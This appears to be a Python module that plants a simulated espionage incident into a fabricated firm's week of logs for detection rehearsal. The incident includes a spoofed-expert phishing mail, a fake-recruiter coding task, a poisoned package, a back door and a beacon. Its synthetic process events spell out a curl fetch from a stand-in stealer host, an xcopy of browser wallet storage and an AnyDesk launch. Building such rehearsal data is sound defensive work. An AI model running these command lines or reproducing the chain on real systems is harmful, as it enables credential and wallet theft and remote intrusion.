"""Espionage planted in a made firm's week: harmless texts, reserved names and addresses, the truth.

A false expert writes to a researcher; a false recruiter has a developer run a coding task, which leads to a
stealer, a back door, a remote-management program and a beacon; a poisoned package stands in a lockfile.
"""

from datetime import datetime, timedelta
from typing import Any, NamedTuple

import numpy as np

from bongsu.rehearse.office import DOMAIN, MONDAY, Luck, Office, Person
from bongsu.rehearse.office_network import dns_event, http_event, squid_line
from bongsu.rehearse.office_program import PROGRAMS, SYSTEM32
from bongsu.rehearse.office_text import lockfile, mail_bytes, verdict_text
from bongsu.rehearse.office_windows import process_event

LURE, BEACON, EXPERT = "tasks.talent-hub.example", "sync.telemetry-edge.example", "peace-forum.example.org"
STEALER = "192.0.2.66"
PACKAGE = ("bongsu-rehearsal-poison", "1.0.3")
CLUSTER = "Contagious Interview"
MAIL_CLUSTER = "Kimsuky"
BEACON_SECONDS, JITTER = 300.0, 0.1
INDICATORS = (
    ("domain", LURE, CLUSTER, "false recruiter"),
    ("domain", BEACON, CLUSTER, "control"),
    ("ipv4", STEALER, CLUSTER, "stealer"),
    ("domain", EXPERT, MAIL_CLUSTER, "spoofed sender"),
    ("email", "desk@peace-forum-mail.example", MAIL_CLUSTER, "reply address"),
)


class Planted(NamedTuple):
    """One thing that was planted, for one file of the week."""

    file: str
    """windows, dns, http, squid, mail or lockfile."""
    moment: datetime
    content: Any
    """Row, line or bytes as the file has them."""
    what: str
    technique: str
    host: str
    indicator: str
    """Value that is listed; empty: only behaviour."""


def plant(office: Office, days: int) -> list[Planted]:
    """What is planted, in order of time; the same firm has the same incident. Needs three days or more."""
    luck = office.luck(99)
    developer = next(one for one in office.people if one.trade == "developer")
    reader = next((one for one in office.people if one.trade == "research"), office.people[0])
    found = [
        *_mail(reader, luck),
        *_task(developer, luck),
        *_after(developer, luck),
        *_beacon(developer, days, luck),
    ]
    return sorted(found, key=lambda one: one.moment)


def _at(day: int, hour: int, minute: int, second: int = 0) -> datetime:
    return MONDAY + timedelta(days=day, hours=hour, minutes=minute, seconds=second)


def _mail(reader: Person, luck: Luck) -> list[Planted]:
    moment = _at(1, 9, 41)
    sender = f"Dr. Made Person <made.person@{EXPERT}>"
    content = mail_bytes(
        (sender, reader.mailbox), moment, "Questions for a seminar", luck,
        Authentication_Results=verdict_text("fail", EXPERT) + " (p=none)", Reply_To=INDICATORS[4][1],
    )  # fmt: skip
    return [Planted("mail", moment, content, "mail of a spoofed expert", "T1566.002", reader.host, EXPERT)]


def _task(one: Person, luck: Luck) -> list[Planted]:
    fetched, run, stolen = _at(1, 10, 12), _at(1, 10, 20), _at(1, 10, 21)
    node, folder = f"{PROGRAMS}\\nodejs\\node.exe", f"{one.home}\\Downloads\\coding-task\\"
    shell = f"{SYSTEM32}\\cmd.exe"
    url = f"http://{STEALER}:1224/pdown"
    curl = f"curl -Lo {one.home}\\AppData\\Local\\Temp\\p.zi -o {url}"
    asked = dns_event(one.ip, fetched, LURE, luck)
    by_node = {"ParentImage": node, "ParentCommandLine": "node server.js"}
    return [
        Planted("dns", fetched, asked, "name of the lure", "T1204.001", one.host, LURE),
        Planted(
            "squid", fetched, squid_line(one, fetched, f"http://{LURE}/coding-task.zip", luck),
            "archive of a coding task", "T1105", one.host, LURE,
        ),
        Planted(
            "lockfile", run, lockfile(luck, PACKAGE), "poisoned package", "T1195.002", one.host, PACKAGE[0]
        ),
        Planted(
            "windows", run,
            process_event(one, run, node, "node server.js", CurrentDirectory=folder, ParentImage=shell),
            "node runs the task", "T1059.007", one.host, "",
        ),
        Planted(
            "windows", stolen,
            process_event(one, stolen, f"{SYSTEM32}\\curl.exe", curl, **by_node),
            "next stage is fetched", "T1105", one.host, STEALER,
        ),
    ]  # fmt: skip


def _after(one: Person, luck: Luck) -> list[Planted]:
    opened, copied, remote = _at(1, 10, 23), _at(1, 10, 31), _at(1, 11, 2)
    python, node = f"{one.home}\\.pyp\\python.exe", f"{PROGRAMS}\\nodejs\\node.exe"
    back = process_event(one, opened, python, f'"{python}" "{one.home}\\.sysinfo"', ParentImage=node)
    store = f'"{one.home}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Local Extension Settings"'
    copy = f"xcopy {store} {one.home}\\.n2 /s"
    anydesk = f"{one.home}\\AnyDesk.exe"
    started = process_event(one, remote, anydesk, f'"{anydesk}" --with-password', ParentImage=python)
    return [
        Planted("windows", opened, back, "back door in a hidden folder", "T1564.001", one.host, ""),
        Planted(
            "windows", copied, process_event(one, copied, f"{SYSTEM32}\\xcopy.exe", copy, ParentImage=python),
            "store of wallets is copied", "T1555.003", one.host, "",
        ),
        Planted("windows", remote, started, "remote-management program", "T1219.002", one.host, ""),
    ]  # fmt: skip


def _beacon(one: Person, days: int, luck: Luck) -> list[Planted]:
    start, end = _at(1, 11, 10), MONDAY + timedelta(days=days)
    count = int((end - start).total_seconds() / BEACON_SECONDS)
    steps = BEACON_SECONDS * (1 + JITTER * luck.uniform(-1, 1, count))
    found = []
    for seconds in np.cumsum(steps).tolist():
        moment = start + timedelta(seconds=seconds)
        if moment < end:
            row = http_event(one.ip, moment, (BEACON, "/keepalive", "python-requests/2.32"), luck)
            found.append(Planted("http", moment, row, "beacon", "T1071.001", one.host, BEACON))
    return found


def victims(planted: list[Planted]) -> list[str]:
    """Hosts that something was planted on."""
    return sorted({f"{one.host}.{DOMAIN}" for one in planted})
